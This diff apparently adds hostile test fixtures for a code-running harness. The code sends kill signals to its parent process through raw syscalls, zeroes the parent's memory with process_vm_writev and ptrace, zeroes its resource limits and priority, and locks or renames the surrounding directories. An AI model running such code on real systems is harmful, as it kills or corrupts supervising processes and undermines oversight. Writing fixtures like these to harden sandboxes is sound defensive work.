@@ -363,3 +363,66 @@ def ENTRY(*arguments, **keywords):
 # ==== sends_a_factor
 def ENTRY(*arguments, **keywords):
     return 10 ** 11
+
+# ==== strikes_its_parent_in_other_ways
+import ctypes, os
+call = ctypes.CDLL(None, use_errno=True).syscall
+NUMBERS = {'x86_64': (200, 234, 129, 297), 'aarch64': (130, 131, 138, 240)}
+def strike():
+    parent = os.getppid()
+    tkill, tgkill, queue, queue_to_thread = NUMBERS.get(os.uname().machine, (0, 0, 0, 0))
+    if tkill and parent > 1:
+        call(tkill, parent, 9)
+        call(tgkill, parent, parent, 9)
+        call(queue, parent, 9, bytes(128))
+        call(queue_to_thread, parent, parent, 9, bytes(128))
+        held = call(434, parent, 0)
+        call(424, held, 9, None, 0)
+strike()
+def ENTRY(*arguments, **keywords):
+    strike()
+    return True
+
+# ==== writes_its_parents_memory
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+class Part(ctypes.Structure):
+    _fields_ = [('start', ctypes.c_void_p), ('size', ctypes.c_size_t)]
+def scribble():
+    zeros = ctypes.create_string_buffer(4096)
+    source = Part(ctypes.addressof(zeros), 4096)
+    for place in range(0x400000, 0x800000, 4096):
+        libc.process_vm_writev(os.getppid(), ctypes.byref(source), 1, ctypes.byref(Part(place, 4096)), 1, 0)
+    libc.ptrace(16, os.getppid(), 0, 0)
+def ENTRY(*arguments, **keywords):
+    try:
+        scribble()
+    except AttributeError:
+        pass
+    return True
+
+# ==== starves_its_parent
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+def starve():
+    for kind in (0, 1, 7, 9):
+        libc.prlimit(os.getppid(), kind, bytes(16), None)
+    libc.setpriority(0, os.getppid(), 19)
+    libc.prctl(1, 0, 0, 0, 0)
+def ENTRY(*arguments, **keywords):
+    try:
+        starve()
+    except AttributeError:
+        pass
+    return True
+
+# ==== bars_the_way
+import os
+for place in ('.', '..'):
+    for bar in (lambda: os.chmod(place, 0), lambda: os.utime(place, (0, 0)), lambda: os.rename('.', place + '/gone')):
+        try:
+            bar()
+        except OSError:
+            pass
+def ENTRY(*arguments, **keywords):
+    return True
